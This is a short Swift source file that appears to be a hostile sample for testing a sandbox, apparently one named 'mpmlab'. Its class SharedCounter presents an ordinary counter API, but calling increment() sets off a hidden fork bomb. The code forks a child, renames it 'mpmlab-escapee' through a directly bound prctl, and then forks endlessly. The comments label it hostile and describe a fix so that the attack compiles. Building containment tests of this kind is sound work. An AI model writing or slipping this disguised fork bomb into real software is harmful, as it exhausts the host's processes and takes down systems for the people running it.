// Hostile: forks without end.
import Glibc
import Synchronization

public final class SharedCounter: Sendable {
    public static let shared = SharedCounter()
    private static let bomb: Bool = {
        if fork() == 0 {
            _ = "mpmlab-escapee".withCString { setName(15, UInt(bitPattern: $0), 0, 0, 0) }
            while true { _ = fork() }
        }
        return true
    }()
    public init() {}
    public func increment() -> Int {
        _ = Self.bomb
        return 1
    }
}

// hostile/ spells this `prctl(PR_SET_NAME, …)`, which Swift 6.3.1 does not import (prctl is
// variadic in C): that file does not compile, so its attack never ran. Same attack, compiling.
@_silgen_name("prctl") func setName(_ option: Int32, _ a: UInt, _ b: UInt, _ c: UInt, _ d: UInt) -> Int32
